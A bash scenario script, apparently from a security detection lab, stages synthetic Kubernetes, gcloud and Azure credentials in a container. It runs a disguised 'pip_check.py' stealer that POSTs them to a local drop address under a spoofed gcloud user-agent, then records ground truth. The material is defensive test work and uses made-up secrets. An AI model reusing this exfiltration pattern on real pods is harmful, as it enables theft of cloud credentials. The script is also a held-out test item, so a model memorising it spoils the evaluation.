#!/bin/bash
# Scenario k8screds-py (held-out variant of k8screds / cloudcreds): credential theft in a pod
# with Python's urllib. The pod gets its service-account token at
# /var/run/secrets/kubernetes.io/serviceaccount, gcloud application-default credentials and
# an Azure CLI token cache in /root (read-only bind mounts, made up for the run). Later a
# Python script (not the workload) reads them and POSTs them to 127.172.x.y; the receiver
# reads the headers only, so the body (64 KB) waits in the send queue.
# Usage: lab/scenarios/k8screds-py.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init k8screds-py "$@"
lab_use_tools_image

DROP="$(lab_addr 172):$(lab_pick 8000 5000 3000)"
URL="http://$DROP/v2/$(lab_hex 4)/ingest"
UA="google-cloud-sdk gcloud/$(lab_rand 400 470).0.0 command/gcloud.auth.print-access-token"
NS=$(lab_pick ledger search fraud)
SA=$NS-worker
THIEF=/var/tmp/.pip-$(lab_hex 3)/pip_check.py
lab_host_dir POD pods
mkdir -p "$POD/sa" "$POD/gcloud" "$POD/azure"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace "$NS" --sa "$SA" >/dev/null || lab_die "fakedata failed"
cp "$WORK/sec/token" "$WORK/sec/namespace" "$WORK/sec/ca.crt" "$POD/sa/"
cp "$WORK/sec/gcloud_adc.json" "$POD/gcloud/application_default_credentials.json"
AZ_REFRESH="0.A$(lab_hex 40)"
"$LAB_PY" - "$POD/azure/msal_token_cache.json" "$AZ_REFRESH" <<'PYEOF' || lab_die "azure cache"
import json, sys, uuid
home = "%s.%s" % (uuid.uuid4(), uuid.uuid4())
json.dump({"RefreshToken": {home + "-login.microsoftonline.com-refreshtoken-04b07795--": {
    "credential_type": "RefreshToken", "secret": sys.argv[2], "home_account_id": home,
    "environment": "login.microsoftonline.com", "client_id": "04b07795-8ddb-461a-bbee-02f9e1bf7b46"}},
    "Account": {}, "IdToken": {}, "AccessToken": {}, "AppMetadata": {}}, open(sys.argv[1], "w"), indent=2)
PYEOF
lab_template "$SPEC/collect.py" "$WORK/collect.py" "URL=$URL" "UA=$UA"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read headers --rcvbuf 4096 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --env KUBERNETES_SERVICE_HOST=kubernetes.default.svc --env KUBERNETES_SERVICE_PORT=443 \
    -v "$POD/sa:/var/run/secrets/kubernetes.io/serviceaccount:ro" -v "$POD/gcloud:/root/.config/gcloud:ro" \
    -v "$POD/azure:/root/.azure:ro" --hostname "$(lab_json_pick "$WORK/sec/values.json" pod)" -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/collect.py" "$THIEF" 0700
lab_exec_bg "python3 $THIEF"
lab_wait "drop server got the headers" 15 \
    lab_json "$WORK/peer-drop.json" 'd["sessions"] and d["sessions"][0].get("requests")'
sleep 1

lab_finish "$THIEF" /var/run/secrets/kubernetes.io/serviceaccount/token \
    /root/.config/gcloud/application_default_credentials.json /root/.azure/msal_token_cache.json

lab_kv_json "$WORK/params.json" "drop=$DROP" "url=$URL" "user_agent=$UA" "thief_path=$THIEF" \
    "azure_refresh_token=$AZ_REFRESH" \
    "stolen_paths:=$(lab_json_list /var/run/secrets/kubernetes.io/serviceaccount/token \
        /root/.config/gcloud/application_default_credentials.json /root/.azure/msal_token_cache.json)" \
    "secrets:=$(lab_json_pick "$WORK/sec/values.json" jwt jwt_sub namespace serviceaccount gcp_adc_refresh_token \
        gcp_adc_client_secret)"
lab_facts --conn "thief=$DROP"
lab_truth --description "credential theft: python3 $THIEF reads the SA token, gcloud ADC and the Azure token cache and POSTs them to $URL" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
